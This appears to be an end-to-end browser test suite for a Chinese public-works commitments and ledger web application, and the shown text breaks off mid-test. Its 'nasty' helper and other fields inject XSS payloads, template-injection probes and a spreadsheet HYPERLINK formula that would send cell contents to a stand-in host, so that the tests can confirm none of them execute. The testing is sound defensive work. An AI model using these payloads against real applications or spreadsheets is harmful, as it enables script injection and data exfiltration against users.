// A person at the web application: a real browser, a real server. Run by e2e_test.py, which says where both are:
//   LUOSHI_BASE address · LUOSHI_CHROMIUM browser · LUOSHI_EDITOR, _REPORTER, _CHECKER … "name:password" of each part; parts the
//   server has nobody for are left out, and their tests skipped · LUOSHI_NEWCOMER "name:first password" · LUOSHI_SHOTS folder for pictures
import assert from 'node:assert/strict'
import { createRequire } from 'node:module'
import { after, before, test } from 'node:test'
import { readFileSync } from 'node:fs'

const { LUOSHI_BASE: base, LUOSHI_CHROMIUM: executablePath, LUOSHI_NEWCOMER: newcomer, LUOSHI_WEB: web, LUOSHI_SHOTS: shots } = process.env
const kParts = Object.fromEntries(['editor', 'reporter', 'leaver', 'checker', 'keeper', 'guard'].map((part) => [part, process.env[`LUOSHI_${part.toUpperCase()}`]?.split(':')]))
const [name, password] = kParts.editor
const require = createRequire(`${web}/package.json`)
const { chromium } = require('playwright-core')
const axe = readFileSync(require.resolve('axe-core/axe.min.js'), 'utf8')
const kWide = { width: 1440, height: 900 }, kPhone = { width: 390, height: 844 }

let browser
before(async () => { browser = await chromium.launch({ executablePath, args: ['--no-sandbox', '--disable-gpu'] }) })
after(async () => { await browser.close() })

/** A page in a browser of its own that notes whatever should not happen. */
async function visitor(viewport = kWide) {
  const context = await browser.newContext({ viewport, locale: 'zh-CN' })
  const page = await context.newPage()
  const wrong = []
  page.on('pageerror', (error) => wrong.push(error.message))
  page.on('console', (message) => { if (message.type() === 'error' && !/status of (400|401|403|404|409|429)/.test(message.text())) wrong.push(message.text()) })
  page.on('request', (request) => { if (!/^(blob|data):/.test(request.url()) && !request.url().startsWith(base)) wrong.push(`asked ${request.url()}`) })
  page.on('dialog', (dialog) => { wrong.push(`a script ran: ${dialog.message()}`); void dialog.dismiss() })
  page.setDefaultTimeout(20_000)
  return { context, page, wrong }
}

async function fill(page, who = name, word = password) {
  await page.fill('input[name=name]', who)
  await page.fill('input[name=password]', word)
  await page.click('form button.main-act')
}

async function signedIn(path = '/', viewport = kWide, part = 'editor') {
  const visit = await visitor(viewport)
  await visit.page.goto(base + path)
  await fill(visit.page, ...kParts[part])
  await visit.page.waitForSelector('.page-head')
  return visit
}

const done = async ({ context, wrong }) => {
  await context.close()
  assert.deepEqual(wrong, [])
}

/** The paper with most statements that wait: every city has one. */
async function openPaper(page) {
  const documents = await page.evaluate(async () => (await (await fetch('/api/v1/documents')).json()).documents)
  const { id } = documents.filter((each) => each.proposed > 1).sort((a, b) => b.proposed - a.proposed)[0]
  const paper = await page.evaluate(async (wanted) => (await fetch(`/api/v1/documents/${wanted}`)).json(), id)
  const waiting = paper.statements.filter((each) => each.state === 'proposed')
  return { id, paper, waiting }
}

test('a wrong password says why, the right one leads to the overview', async () => {
  const visit = await visitor()
  await visit.page.goto(base)
  await fill(visit.page, name, 'wrong-password-here')
  assert.match(await visit.page.textContent('[role=alert]'), /。/)
  await fill(visit.page)
  await visit.page.waitForSelector('.sum')
  assert.match(await visit.page.textContent('.foot'), /账本第/)
  await done(visit)
})

test('a first password opens nothing but its own change', { skip: !newcomer }, async () => {
  const [who, first] = newcomer.split(':')
  const visit = await visitor()
  await visit.page.goto(`${base}/ledger`)
  await fill(visit.page, who, first)
  await visit.page.waitForSelector('input[name=again]')
  await visit.page.fill('input[name=old]', first)
  for (const [field, words] of [['new', 'short'], ['again', 'short']]) await visit.page.fill(`input[name=${field}]`, words)
  await visit.page.click('button.main-act')
  assert.match(await visit.page.textContent('[role=alert]'), /太短/)
  for (const field of ['new', 'again']) await visit.page.fill(`input[name=${field}]`, '清水绿岸看得见，二〇二六')
  await visit.page.click('button.main-act')
  await visit.page.waitForSelector('.hash.head')
  await done(visit)
})

test('a click on a sentence lights it in all three columns, and its link shows the same', async () => {
  const visit = await signedIn()
  const { id, paper } = await openPaper(visit.page)
  const statement = paper.statements[0]
  await visit.page.goto(`${base}/documents/${id}`)
  await visit.page.locator('.text:not(.raw) .said').first().click()
  const lit = async (page) => ({
    text: (await page.locator('.text:not(.raw) .cur').allTextContents()).join(''),
    seen: (await page.locator('.text.raw .cur').allTextContents()).join(''), card: await page.locator('.stm.on .no').first().textContent()
  })
  const first = await lit(visit.page)
  assert.ok(first.text.length > 3 && first.seen.length > 3)
  assert.equal(first.card, `S-${statement.id}`)
  const link = visit.page.url()
  await visit.page.goto('about:blank')
  await visit.page.goto(link)
  await visit.page.waitForSelector('.stm.on')
  assert.deepEqual(await lit(visit.page), first)
  await visit.page.keyboard.press('j')
  await visit.page.waitForSelector(`.stm.on .no:text-is("S-${paper.statements[1].id}")`)
  await done(visit)
})

test('a repair shows its bytes as they stand in the file', async () => {
  const visit = await signedIn()
  const documents = await visit.page.evaluate(async () => (await (await fetch('/api/v1/documents')).json()).documents)
  const damaged = documents.find((each) => each.repairs > 0)
  if (!damaged) return done(visit)
  const paper = await visit.page.evaluate(async (wanted) => (await fetch(`/api/v1/documents/${wanted}`)).json(), damaged.id)
  const place = paper.repairs.findIndex((each) => each.source[1] - each.source[0] > 1)
  const bytes = await visit.page.evaluate(async ([wanted, from, to]) => [...new Uint8Array(await (await fetch(`/api/v1/documents/${wanted}/source`)).arrayBuffer())].slice(from, to), [damaged.id, ...paper.repairs[place].source])
  await visit.page.goto(`${base}/documents/${damaged.id}?r=${place}`)
  await visit.page.waitForSelector('.bytes .hx')
  const shown = (await visit.page.locator('.bytes tr:nth-child(2) .hx').allTextContents()).join(' ')
  assert.equal(shown, bytes.map((byte) => byte.toString(16).toUpperCase().padStart(2, '0')).join(' '))
  await done(visit)
})

test('an ended session loses nothing: the command is carried out after signing in again', async () => {
  const visit = await signedIn()
  const { id, waiting } = await openPaper(visit.page)
  const [statement] = waiting
  await visit.page.goto(`${base}/documents/${id}?s=${statement.id}`)
  await visit.page.locator('.stm.on').getByRole('button', { name: '提问清' }).click()
  const words = `<img src=x onerror="alert(1)"> {{7*7}} 谁来定？${Date.now()}`
  await visit.page.locator('.cmd textarea').fill(words)
  await visit.page.reload()
  assert.equal(await visit.page.locator('.cmd textarea').inputValue(), words, 'typed words survive a reload')
  await visit.context.clearCookies()
  await visit.page.locator('.cmd button.main-act').click()
  await visit.page.waitForSelector('dialog[open] input[name=password]')
  await visit.page.fill('dialog[open] input[name=password]', password)
  await visit.page.click('dialog[open] button.main-act')
  await visit.page.getByText(words).first().waitFor()
  assert.equal(await visit.page.locator('.cmd').count(), 0)
  await done(visit)
})

test('two people at one statement: the second sees what the first did and decides', async () => {
  const first = await signedIn(), second = await signedIn()
  const { id, waiting } = await openPaper(first.page)
  const statement = waiting.at(-1)
  await second.page.goto(`${base}/documents/${id}?s=${statement.id}`)
  await second.page.locator('.stm.on').getByRole('button', { name: '更正' }).click()
  await second.page.locator('.cmd textarea').fill('类别读错了，改过来')
  await second.page.locator('.cmd select').first().selectOption(statement.kind === 'finding' ? 'result' : 'finding')
  await first.page.goto(`${base}/documents/${id}?s=${statement.id}`)
  await first.page.locator('.stm.on').getByRole('button', { name: '确认', exact: true }).click()
  await first.page.locator(`.stm:has(.no:text-is("S-${statement.id}")) .chip:has-text("已确认")`).waitFor()
  await second.page.locator('.cmd button.main-act').click()
  await second.page.locator('.cmd [role=alert]', { hasText: '您填的' }).waitFor()
  assert.equal(await second.page.locator('.cmd textarea').inputValue(), '类别读错了，改过来')
  await second.page.getByRole('button', { name: '看过了，仍按我填的提交' }).click()
  await second.page.locator(`.stm:has(.no:text-is("S-${statement.id}")) .chip:has-text("已更正")`).waitFor()
  await done(first)
  await done(second)
})

test('a sentence is confirmed, opened as a commitment, and leads there', async () => {
  const visit = await signedIn()
  const { id, waiting } = await openPaper(visit.page)
  const statement = waiting.find((each) => ['requirement', 'commitment', 'request'].includes(each.kind))
  const bodies = await visit.page.evaluate(async () => (await (await fetch('/api/v1/registers')).json()).bodies)
  const lead = bodies.find((body) => body.kind === 'department') ?? bodies[0]
  await visit.page.goto(`${base}/documents/${id}?s=${statement.id}`)
  await visit.page.locator('.stm.on').getByRole('button', { name: '确认', exact: true }).click()
  const card = visit.page.locator(`.stm:has(.no:text-is("S-${statement.id}"))`)
  await card.locator('.chip:has-text("已确认")').waitFor()
  await card.locator('p').first().click()
  await card.getByRole('button', { name: '立项' }).click()
  await card.locator('.cmd textarea').fill('浏览器里立的一项')
  await card.locator('.el-select input').fill(lead.name)
  await visit.page.locator('.el-select-dropdown__item:visible', { hasText: lead.name }).first().click()
  await card.locator('.cmd button.main-act').click()
  await card.getByRole('link', { name: /浏览器里立的一项/ }).click()
  await visit.page.waitForSelector('.quote')
  assert.ok((await visit.page.textContent('.quote')).includes(statement.quote.slice(0, 8)))
  assert.ok((await visit.page.textContent('.ask-line')).includes(lead.name))
  await done(visit)
})

test('a commitment leads to its sentence, to its event, and to a proof that holds', async () => {
  const visit = await signedIn('/commitments')
  await visit.page.locator('.tbl.rows .goal a').first().click()
  await visit.page.waitForSelector('.quote')
  await visit.page.locator('.tbl.tight a[href^="/ledger/events/"]').first().click()
  await visit.page.getByRole('button', { name: '证明它在账本里' }).click()
  await visit.page.locator('.big .st.kept', { hasText: '成立' }).waitFor()
  const head = await visit.page.locator('.path .now .hash').textContent()
  const ledger = await visit.page.evaluate(async () => (await (await fetch('/api/v1/ledger')).json()).head)
  assert.equal(head, ledger)
  await visit.page.goto(`${base}/ledger`)
  await visit.page.getByRole('button', { name: '现在核对' }).click()
  await visit.page.locator('.st.kept', { hasText: '全部相符' }).waitFor()
  await done(visit)
})

/** What must never run, whatever field it is typed into. */
const nasty = (words) => `=HYPERLINK("http://example.invalid/?"&A1,"x") <img src=x onerror="alert(1)"> <script>alert(2)</script> {{alert(3)}} ${words}`

/** The first commitment with assets to pick on which the person may report. */
async function reportable(page) {
  return page.evaluate(async () => {
    for (let id = 1; id <= 200; id += 1) { // what is not theirs to read is not there for them
      let answer = await fetch(`/api/v1/commitments/${id}`)
      while (answer.status === 429) { // asked too often for a person
        await new Promise((resolve) => setTimeout(resolve, 1000 * Number(answer.headers.get('Retry-After') ?? 1)))
        answer = await fetch(`/api/v1/commitments/${id}`)
      }
      if (!answer.ok) continue
      const full = await answer.json()
      if (full.steps.includes('report') && full.funnel.length > 0) return full
    }
    return null
  })
}

async function signInAgain(page, word) {
  await page.waitForSelector('dialog[open] input[name=password]')
  await page.fill('dialog[open] input[name=password]', word)
  await page.click('dialog[open] button.main-act')
}

test('a river is picked, the session ends, the report is filed all the same; another person returns it with a reason', async () => {
  const reporter = await signedIn('/', kWide, 'reporter')
  const { row } = await reportable(reporter.page)
  await reporter.page.goto(`${base}/commitments/${row.id}`)
  await reporter.page.getByRole('button', { name: '填报进展' }).click()
  const note = nasty(`完工，附验收单 ${Date.now()}`)
  const river = reporter.page.locator('.assets li').first()
  const picked = await river.locator('b').textContent()
  await river.getByRole('radio', { name: '完工' }).click()
  await reporter.page.locator('.cmd textarea').fill(note)
  await reporter.page.reload()
  assert.equal(await reporter.page.locator('.cmd textarea').inputValue(), note, 'typed words survive a reload')
  await reporter.page.locator('.assets li', { hasText: picked }).getByRole('radio', { name: '完工', checked: true }).waitFor()
  await reporter.context.clearCookies()
  await reporter.page.locator('.cmd button.main-act').click()
  await signInAgain(reporter.page, kParts.reporter[1])
  await reporter.page.locator('.tbl p', { hasText: note }).first().waitFor()
  await reporter.page.locator('.chart canvas').first().waitFor()
  await done(reporter)

  const checker = await signedIn('/', kWide, 'checker')
  const waiting = await checker.page.evaluate(async (words) => (await (await fetch('/api/v1/reports?checkable=1&size=200')).json()).items.find((each) => each.report.note === words), note)
  assert.ok(waiting, 'the report waits for the checker')
  await checker.page.goto(`${base}/commitments/${row.id}`)
  const line = checker.page.locator('tbody', { hasText: note })
  await line.getByRole('button', { name: '核查', exact: true }).click()
  await line.getByRole('radio', { name: '退回' }).click()
  await line.getByRole('button', { name: '记下结论' }).click()
  await line.locator('[role=alert]', { hasText: '没有写原因' }).waitFor()
  await line.locator('textarea').fill(nasty('没有验收单'))
  await line.getByRole('button', { name: '记下结论' }).click()
  await line.locator('td', { hasText: '退回' }).first().waitFor()
  await line.getByText('没有验收单').waitFor()
  await done(checker)
})

test('two checkers at one report: the second sees both verdicts', async () => {
  const first = await signedIn('/', kWide, 'checker'), second = await signedIn('/', kWide, 'checker')
  const { report, commitment } = await first.page.evaluate(async () => (await (await fetch('/api/v1/reports?checkable=1&size=200')).json()).items[0] ?? {})
  if (!report) return Promise.all([done(first), done(second)])
  const open = async ({ page }, verdict, reason) => {
    await page.goto(`${base}/commitments/${commitment.id}`)
    if (await page.getByRole('button', { name: /^其余/ }).count()) await page.getByRole('button', { name: /^其余/ }).click()
    const button = page.getByRole('button', { name: '核查', exact: true })
    await button.last().click()
    await page.getByRole('radio', { name: verdict }).click()
    await page.locator('.cmd textarea').fill(reason)
  }
  await open(second, '退回', '照片是旧的')
  await open(first, '核查属实', '看过现场')
  await first.page.getByRole('button', { name: '记下结论' }).click()
  await first.page.getByText('看过现场').waitFor()
  await second.page.getByRole('button', { name: '记下结论' }).click()
  const both = second.page.locator('.both')
  await both.getByText('核查属实，看过现场').waitFor()
  assert.match(await both.textContent(), /退回，照片是旧的/)
  await second.page.locator('.since li').first().waitFor()
  await second.page.getByRole('button', { name: '照现在的' }).click()
  assert.equal(await second.page.locator('.cmd').count(), 0)
  await done(first)
  await done(second)
})

test('two people extend one deadline: both days are shown, the second decides, the first deadline stays', async () => {
  const first = await signedIn(), second = await signedIn()
  const id = await first.page.evaluate(async () => {
    const { items } = await (await fetch('/api/v1/commitments?state=in_force&size=50&sort=title')).json()
    for (const { id } of items) if ((await (await fetch(`/api/v1/commitments/${id}`)).json()).steps.includes('extend')) return id
    return 0
  })
  const open = async ({ page }, day, reason) => {
    await page.goto(`${base}/commitments/${id}`)
    await page.getByRole('button', { name: '改期限' }).click()
    await page.locator('.cmd input[type=date]').fill(day)
    await page.locator('.cmd .el-select input').click()
    await page.locator('.el-select-dropdown__item:visible').first().click()
    await page.locator('.cmd textarea').fill(reason)
  }
  await open(second, '2028-03-31', nasty('汛期停工'))
  await open(first, '2028-06-30', '征拆未完')
  await first.page.locator('.cmd button.main-act').click()
  await first.page.locator('.tl b', { hasText: '2028年6月30日' }).waitFor()
  await second.page.locator('.cmd button.main-act').click()
  const both = second.page.locator('.both')
  await both.getByText('2028年6月30日').first().waitFor()
  assert.match(await both.textContent(), /2028年3月31日.*汛期停工/)
  await second.page.getByRole('button', { name: '看过了，仍按我填的提交' }).click()
  await second.page.locator('.tl b', { hasText: '2028年3月31日' }).waitFor()
  assert.equal(await second.page.locator('.tl li.now b').textContent(), '2028年3月31日')
  await done(first)
  await done(second)
})

test('an ask is opened, held to its kind, kept as CSV and followed to its proof; a step that is not ours says why', async () => {
  const visit = await signedIn('/things/ask', kWide, 'reporter')
  if (await visit.page.locator('h1', { hasText: '没有这一页' }).count()) return done(visit) // this server keeps no asks
  const own = await visit.page.evaluate(async () => (await (await fetch('/api/v1/session')).json()).body_name)
  const pick = async (label, words) => {
    await visit.page.locator('.fld', { hasText: label }).locator('.el-select input').first().fill(words)
    await visit.page.locator('.el-select-dropdown__item:visible', { hasText: words }).first().click()
  }
  await visit.page.getByRole('button', { name: '新立' }).first().click()
  await pick('请示单位', own)
  await visit.page.locator('.cmd button.main-act').click()
  await visit.page.locator('.cmd [role=alert]', { hasText: '没有写请示什么' }).waitFor()
  const words = nasty(`界河涌由谁来做 ${Date.now()}`)
  await visit.page.locator('.fld', { hasText: '内容' }).locator('textarea').fill(words)
  await pick('答复单位', '市水务局')
  await visit.page.locator('.fld', { hasText: '期限' }).locator('input').fill('2099-12-31')
  await visit.page.reload()
  assert.equal(await visit.page.locator('.fld', { hasText: '内容' }).locator('textarea').inputValue(), words, 'typed words survive a reload')
  await visit.page.locator('.cmd button.main-act').click()
  await visit.page.locator('.goal a', { hasText: '界河涌由谁来做' }).first().waitFor()
  const saved = visit.page.waitForEvent('download')
  await visit.page.getByRole('button', { name: '导出 CSV' }).click()
  const csv = readFileSync(await (await saved).path(), 'utf8')
  assert.ok(csv.startsWith('\ufeff编号,') && csv.includes(`"'=HYPERLINK(`), 'no cell begins a formula')
  await visit.page.keyboard.press('ArrowDown')
  await visit.page.keyboard.press('Enter')
  await visit.page.waitForURL(/things\/ask\/\d+/)
  await visit.page.locator('.chip', { hasText: '已提出' }).waitFor()
  await visit.page.getByText(/不归您办/).click()
  await visit.page.locator('li', { hasText: '受理' }).first().waitFor()
  await visit.page.getByRole('button', { name: '撤回' }).click()
  await visit.page.locator('.cmd button.main-act').click()
  await visit.page.locator('.cmd [role=alert]', { hasText: '还没有写' }).waitFor()
  await visit.page.locator('.cmd textarea').fill('两镇已经商定')
  await visit.page.locator('.cmd button.main-act').click()
  await visit.page.locator('.page-head .chip', { hasText: '撤回' }).waitFor()
  await visit.page.locator('.tbl.tight a[href^="/ledger/events/"]').first().click()
  await visit.page.getByRole('button', { name: '证明它在账本里' }).click()
  await visit.page.locator('.big .st.kept', { hasText: '成立' }).waitFor()
  await done(visit)
})

test('a right withdrawn under an open page: the form says so and keeps what was typed', { skip: !kParts.guard }, async () => {
  const leaver = await signedIn('/', kWide, 'leaver')
  const { row } = await reportable(leaver.page)
  const { person, post } = await leaver.page.evaluate(async () => (await fetch('/api/v1/session')).json())
  await leaver.page.goto(`${base}/commitments/${row.id}`)
  await leaver.page.getByRole('button', { name: '填报进展' }).click()
  await leaver.page.locator('.cmd textarea').fill('离任前没交上的一句')
  const guard = await signedIn('/accounts', kWide, 'guard')
  const ended = await guard.page.evaluate(async ([who, where]) => {
    const { csrf } = await (await fetch('/api/v1/session')).json()
    const answer = await fetch('/api/v1/commands', { method: 'POST', headers: { 'Content-Type': 'application/json', 'X-Luoshi-Csrf': csrf }, body: JSON.stringify({ id: `end-${who}`, type: 'end_holder', body: { person: who, post: where, until: '2026-01-31' } }) })
    return answer.status === 200 ? '' : answer.text()
  }, [person, post])
  assert.equal(ended, '')
  await leaver.page.locator('.cmd button.main-act').click()
  await leaver.page.locator('.cmd [role=alert], dialog[open]').first().waitFor()
  assert.match(await leaver.page.locator('.cmd [role=alert]').textContent(), /还在，没有丢/)
  assert.equal(await leaver.page.locator('.cmd textarea').inputValue(), '离任前没交上的一句')
  await done(leaver)
  await done(guard)
})

test('accounts: a password is reset only at the second click and shown once; the record says so', { skip: !kParts.keeper }, async () => {
  const keeper = await signedIn('/', kWide, 'keeper')
  await keeper.page.waitForURL(/accounts$/)
  const row = keeper.page.locator('tbody tr', { has: keeper.page.getByRole('button', { name: '重置密码' }) }).last()
  const who = await row.locator('b').first().textContent()
  await row.getByRole('button', { name: '重置密码' }).click()
  assert.equal(await keeper.page.locator('.first-password').count(), 0)
  await keeper.page.getByRole('button', { name: /确定重置/ }).click()
  const first = await keeper.page.locator('.first-password code').textContent()
  assert.ok(first.length >= 12)
  await keeper.page.locator('td', { hasText: '重置密码' }).last().waitFor()
  await keeper.page.getByRole('button', { name: '记下了，收起' }).click()
  const visit = await visitor()
  await visit.page.goto(base)
  await fill(visit.page, who, first)
  await visit.page.waitForSelector('input[name=again]')
  await done(visit)
  await done(keeper)
})

test('every count of the overview opens to the list it counts, and the rest of a place is its filtered list', async () => {
  const visit = await signedIn('/')
  const { places, shown } = await visit.page.evaluate(async () => (await fetch('/api/v1/overview')).json())
  const place = places.find((each) => each.key === shown.key)
  assert.ok(shown.lines.length <= 20 && await visit.page.locator('.tbl.status tbody tr').count() === shown.lines.length)
  const tallies = visit.page.locator('.sum .tally a')
  const counted = await tallies.evaluateAll((links) => links.map((link) => [link.getAttribute('href'), Number(link.textContent.replace(/\D/g, ''))]))
  assert.ok(counted.length > 0, 'something was promised there')
  for (const [href, count] of counted) {
    await visit.page.goto(base + href)
    await visit.page.waitForFunction(() => /\d/.test(document.querySelector('h1')?.textContent ?? ''))
    assert.equal(Number((await visit.page.textContent('h1')).replace(/\D/g, '')), count, href)
  }
  const taken = visit.page.locator('.commit-filter button[aria-pressed=true]', { hasText: '✕' })
  assert.equal(await taken.count(), 2, 'a place and a verdict, each to be taken off')
  await taken.first().click()
  await visit.page.waitForFunction(() => !new URLSearchParams(location.search).has('place'))
  const other = places.find((each) => each !== place && each.unheard > 0)
  if (other) {
    await visit.page.goto(`${base}/?place=${encodeURIComponent(other.key)}`)
    await visit.page.locator('h1', { hasText: other.place }).waitFor()
    await visit.page.locator('.to-handle a', { hasText: '待确认' }).click()
    await visit.page.waitForURL(/\/documents\?place=/)
    await visit.page.waitForFunction((wanted) => document.querySelectorAll('.tbl tbody tr').length === wanted, other.documents)
  }
  await visit.page.goto(`${base}/commitments?kept=nonsense`) // an address somebody typed: refused in words, no page that breaks
  await visit.page.waitForFunction(() => document.querySelector('.failure, [role=alert]'))
  await done(visit)
})

/** The judged section that promises alone do not bring to its class; nothing where the server judges none (the mock). */
async function shortSection(page) {
  const { sections } = await page.evaluate(async () => (await fetch('/api/v1/enough')).json())
  return sections.find((each) => each.asset && each.answer === 'no')
}

test('the decision sheet is one sheet of A4', async () => {
  const visit = await signedIn('/enough')
  const section = await shortSection(visit.page)
  if (!section) return done(visit)
  await visit.page.goto(`${base}/enough/${section.asset}/sheet`)
  await visit.page.getByText('请定什么').first().waitFor()
  const printed = (await visit.page.pdf({ preferCSSPageSize: true, printBackground: true })).toString('latin1')
  assert.equal(printed.match(/\/Type\s*\/Page[^s]/g).length, 1)
  const [width, height] = printed.match(/\/MediaBox\s*\[0 0 ([\d.]+) ([\d.]+)\]/).slice(1).map(Number)
  assert.ok(Math.abs(width - 595.28) < 1 && Math.abs(height - 841.89) < 1, `${width} × ${height} points`)
  await done(visit)
})

test('a slider is dragged and the number beside it changes in the same frame; the promises alone fall short', async () => {
  const visit = await signedIn('/enough')
  const section = await shortSection(visit.page)
  if (!section) return done(visit)
  await visit.page.goto(`${base}/enough/${section.asset}`)
  await visit.page.waitForSelector('.plan-level')
  const level = async () => Number((await visit.page.textContent('.plan-level')).trim().split(/\s/)[0])
  const promised = await level()
  assert.ok(Math.abs(promised - section.middle_if_kept) < 0.011, 'the sliders open at what is promised')
  assert.match(await visit.page.textContent('.verdict'), /不够/)
  const asked = []
  visit.page.on('request', (request) => asked.push(request.url()))
  const free = visit.page.locator('.slider', { hasText: '没有人承诺' }).first().locator('input[type=range]')
  const box = await free.boundingBox()
  await visit.page.mouse.move(box.x + 6, box.y + box.height / 2)
  await visit.page.mouse.down()
  await visit.page.mouse.move(box.x + box.width - 2, box.y + box.height / 2, { steps: 5 })
  await visit.page.mouse.up()
  const dragged = await level()
  assert.ok(dragged < promised - 0.005, `${dragged} after the drag, ${promised} before`)
  assert.deepEqual(asked.filter((url) => url.includes('/enough')), [], 'the page answers by itself')
  const took = await visit.page.evaluate(() => new Promise((resolve) => {
    const slider = document.querySelector('.slider input'), before = performance.now()
    slider.value = '50'
    slider.dispatchEvent(new Event('input', { bubbles: true }))
    requestAnimationFrame(() => requestAnimationFrame(() => resolve(performance.now() - before)))
  }))
  console.log(`slider to screen | ${took.toFixed(1)} ms`)
  await visit.page.getByRole('button', { name: '回到承诺' }).click()
  assert.equal(await level(), promised)
  await done(visit)
})

test('a plan that was kept stands in the address, side by side with the promises; on a phone the answer stays in view', async () => {
  const visit = await signedIn('/enough', kPhone)
  const section = await shortSection(visit.page)
  if (!section) return done(visit)
  await visit.page.goto(`${base}/enough/${section.asset}`)
  const last = visit.page.locator('.slider input[type=range]').last()
  await last.scrollIntoViewIfNeeded()
  await last.fill('50')
  const strip = await visit.page.locator('.plan-side .answer').boundingBox()
  assert.ok(strip.y >= 0 && strip.y + strip.height <= kPhone.height + 1, `the answer stands at ${strip.y}`)
  const level = (await visit.page.textContent('.plan-level')).trim().split(/\s/)[0]
  await visit.page.getByRole('button', { name: '记下这个方案' }).click()
  await visit.page.waitForURL(/plan=\d+-50/)
  await visit.page.reload()
  const kept = visit.page.locator('.plans tbody tr', { hasText: '滑块上的方案 1' })
  await kept.waitFor()
  const words = await kept.textContent()
  assert.match(words, /(0|100)%→50%/)
  assert.ok(words.includes(level), `${words} says ${level}`)
  await kept.getByRole('button', { name: /调出|放到滑块上/ }).click()
  assert.equal((await visit.page.textContent('.plan-level')).trim().split(/\s/)[0], level)
  await kept.getByRole('button', { name: /删去/ }).click()
  await visit.page.waitForURL((url) => !url.searchParams.has('plan'))
  await visit.page.goto(`${base}/enough/${section.asset}?plan=1-999&plan=nonsense`)
  await visit.page.waitForSelector('.plans tbody tr')
  assert.equal(await visit.page.locator('.plans tbody tr', { hasText: '滑块上的方案' }).count(), 0)
  await done(visit)
})

test('the decision sheet names its state and says the same twice; tidal sections say that they cannot say', async () => {
  const visit = await signedIn('/enough')
  const section = await shortSection(visit.page)
  if (!section) return done(visit)
  await visit.page.goto(`${base}/enough/${section.asset}`)
  await visit.page.getByRole('link', { name: '决策单' }).click()
  await visit.page.waitForSelector('.five')
  assert.equal(await visit.page.locator('.five > div').count(), 5)
  const words = await visit.page.textContent('.sheet')
  assert.match(words, /首部/)
  await visit.page.reload()
  await visit.page.waitForSelector('.five')
  assert.equal(await visit.page.textContent('.sheet'), words)
  await visit.page.goto(`${base}/water`)
  await visit.page.waitForSelector('.mapcanvas')
  assert.match(await visit.page.textContent('.main'), /不能判断：感潮/)
  await done(visit)
})

/** The map has ink on a fifth of its canvas. */
const isDrawn = (page) => page.waitForFunction(() => {
  const canvas = document.querySelector('.mapcanvas'), bytes = canvas?.getContext('2d').getImageData(0, 0, canvas.width, canvas.height).data ?? []
  let inked = 0
  for (let i = 3; i < bytes.length; i += 4) if (bytes[i] > 0) inked += 1
  return inked / (bytes.length / 4) > 0.2
})

test('the map shows its things on the canvas and in the table alike; a picked town opens its promises', async () => {
  const visit = await signedIn('/map')
  const { features } = await visit.page.evaluate(async () => (await fetch('/api/v1/map')).json())
  if (features.length === 0) return done(visit)
  await isDrawn(visit.page)
  const town = features.find((each) => each.properties.kind === 'place')
  await visit.page.goto(`${base}/map?view=table&at=${town.properties.code}`)
  await visit.page.locator('aside', { hasText: town.properties.name }).waitFor()
  await visit.page.locator('.canvas table tbody tr').nth(20).waitFor()  // rows stand after the town's panel
  await done(visit)
})

test('the map draws rivers by verdict and projects as things; everything on it moves smoothly', async () => {
  const visit = await signedIn('/map?show=river,section,project')
  const { features } = await visit.page.evaluate(async () => (await fetch('/api/v1/map')).json())
  if (features.length === 0) return done(visit)
  await isDrawn(visit.page)
  const { projects, verdicts } = await visit.page.evaluate(async () => (await fetch('/api/v1/map/states')).json())
  await visit.page.getByRole('radio', { name: '按能否按期' }).click()
  await visit.page.waitForURL(/by=verdict/)
  await visit.page.locator('.maplegend', { hasText: '难按期' }).waitFor()
  await visit.page.goto(`${base}/map?view=table&show=project&at=P-${projects[0].project}`)
  await visit.page.locator('aside', { hasText: projects[0].name }).getByRole('link', { name: '看项目 ›' }).waitFor()
  assert.ok(await visit.page.locator('.canvas tbody tr', { hasText: projects[0].stage_name }).count() > 0)
  const unlikely = new Set(verdicts.find((each) => each.verdict === 'unlikely')?.assets ?? [])
  await visit.page.goto(`${base}/map?view=table&show=river&only=unlikely`)
  await visit.page.waitForFunction((wanted) => document.querySelectorAll('.canvas tbody tr').length === wanted,
    Math.min(500, features.filter(({ properties: { kind, asset } }) => kind === 'river' && unlikely.has(asset)).length))
  await visit.page.goto(`${base}/map?show=river,reach,section,closing,project,firm,works,sewer,outfall,parcel,wetland,park,station,stack`)
  await isDrawn(visit.page)
  const frames = await visit.page.evaluate(async () => {
    const canvas = document.querySelector('.mapcanvas'), took = []
    for (let i = 0; i < 60; i += 1) {
      canvas.dispatchEvent(new KeyboardEvent('keydown', { key: ['ArrowLeft', '+', 'ArrowUp', '-'][i % 4], bubbles: true }))
      const before = performance.now()
      await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)))
      took.push(performance.now() - before)
    }
    return took.sort((a, b) => a - b)
  })
  console.log(`map | ${features.length + projects.length} shapes, a frame p50 ${frames[30].toFixed(1)} ms, p95 ${frames[57].toFixed(1)} ms`)
  assert.ok(frames[30] < 250, `half of the frames take over ${frames[30]} ms`) // loose: other tests run beside it
  await done(visit)
})

test('two fingers that do not move leave the map where it is', async () => {
  const visit = await signedIn('/map', kPhone)
  const { features } = await visit.page.evaluate(async () => (await fetch('/api/v1/map')).json())
  if (features.length === 0) return done(visit)
  const canvas = visit.page.locator('.mapcanvas')
  await canvas.scrollIntoViewIfNeeded()
  const picture = () => canvas.evaluate((place) => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(() => resolve(place.toDataURL())))))
  await isDrawn(visit.page)
  for (const part of ['.st', 'path[d="M0 5h30"]']) await visit.page.locator(`.maplegend ${part}`).first().waitFor({ state: 'attached' }) // all is answered
  const { x, y, width, height } = await canvas.boundingBox(), first = { x: x + width / 4, y: y + height / 2, id: 0 }, second = { x: x + width * 3 / 4, y: y + height / 3, id: 1 }
  const fingers = await visit.context.newCDPSession(visit.page)
  const touch = (type, ...touchPoints) => fingers.send('Input.dispatchTouchEvent', { type, touchPoints })
  const before = await picture()
  await touch('touchStart', first)
  await touch('touchStart', first, second)
  await touch('touchMove', { ...first, x: first.x + 1 }, { ...second, x: second.x + 1 })
  await touch('touchEnd', second)
  await touch('touchEnd')
  assert.ok(await picture() === before, 'the map has moved')
  await done(visit)
})

test('a sheet too long to be listed is counted whole', async () => {
  const visit = await signedIn('/sheets')
  const forms = await visit.page.evaluate(async () => (await fetch('/api/v1/sheets')).status)
  if (forms !== 200) return done(visit) // the mock takes no sheets
  await visit.page.goto(`${base}/sheets?form=bodies`)
